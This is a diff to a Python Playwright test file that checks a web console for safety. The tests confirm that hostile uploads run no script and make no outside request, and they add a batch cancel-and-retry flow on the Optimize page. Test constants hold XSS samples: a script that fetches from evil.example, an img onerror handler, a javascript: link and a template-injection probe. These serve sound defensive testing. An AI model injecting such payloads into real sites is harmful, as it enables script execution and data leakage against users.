@@ -14,6 +14,7 @@ from urllib.parse import quote, urlsplit
 import pytest
 
 from core.runs.records import claim, write_label
+from core.scheduling import batch
 from pages.views.reports import kinds
 from pages.views.reports.document import to_html
 from storage.ingest import catch_up
@@ -201,6 +202,7 @@ def test_the_console_works_behind_a_proxy_that_the_operator_names(home, tmp_path
 
 
 SCRIPT = "<script>window.evil = 1; fetch('http://evil.example/name')</script><img src=x onerror='window.evil = 2'>"
+SHOWN = ("svg-script.svg", "head-PNG.png", hostile.NAMES[4], hostile.NAMES[5])  # on Optimize, to the end
 MARKDOWN = "![a](http://evil.example/markdown.png) [b](javascript:alert(1)) **c** $d$ {{ 7*7 }}"
 
 
@@ -253,7 +255,9 @@ def test_what_strangers_give_runs_no_script_and_sends_no_request(home, tmp_path,
             assert page.evaluate("window.evil") is None
             assert not page.locator("[data-testid=stException]").count()
             assert not [
-                url for url in urls if not url.startswith((server.url, server.url.replace("http", "ws"), "data:", "blob:", "file:"))
+                (url, page.url)
+                for url in urls
+                if not url.startswith((server.url, server.url.replace("http", "ws"), "data:", "blob:", "file:"))
             ]
 
         page.goto(f"{server.url}/logos?tab=Make+a+set")
@@ -272,13 +276,22 @@ def test_what_strangers_give_runs_no_script_and_sends_no_request(home, tmp_path,
 
         page.goto(f"{server.url}/optimize")
         settled(page)
-        page.locator("input[type=file]").set_input_files(
-            [str(path) for path in given if path.name[:4] in ("good", "svg-", "<img", "![a]", "html", "cut-")]
-        )
-        page.get_by_text("good-PNG.png").first.wait_for()
+        page.locator("input[type=file]").set_input_files([*map(str, given), str(archive)])
+        page.get_by_text("all.zip").first.wait_for()
         page.get_by_role("button", name="Optimize").first.click()
-        page.get_by_text(" taken, ").first.wait_for(timeout=120_000)
-        page.locator(".handle").first.wait_for()
+        page.get_by_text(" taken, ").first.wait_for()
+        page.get_by_role("button", name="Cancel").first.click()
+        page.get_by_text("This batch was cancelled").wait_for()
+        clean()
+        (first,) = batch.all_batches(home)
+        assert {item.given for item in first.intake().taken} >= {file.name.replace('"', "%22") for file in good if file.name.isprintable()}
+        page.goto(f"{server.url}/optimize")  # the box keeps what was dropped
+        settled(page)
+        page.locator("input[type=file]").set_input_files([str(path) for path in given if path.name in SHOWN])
+        page.get_by_text("svg-script.svg").first.wait_for()
+        page.get_by_role("button", name="Optimize", exact=True).first.click()
+        page.locator(".handle").first.wait_for(timeout=120_000)
+        page.get_by_text(" taken, ").first.wait_for()
         clean()
         assert not [path for path in (home / "batches").iterdir() if path.name.startswith(".")]
 
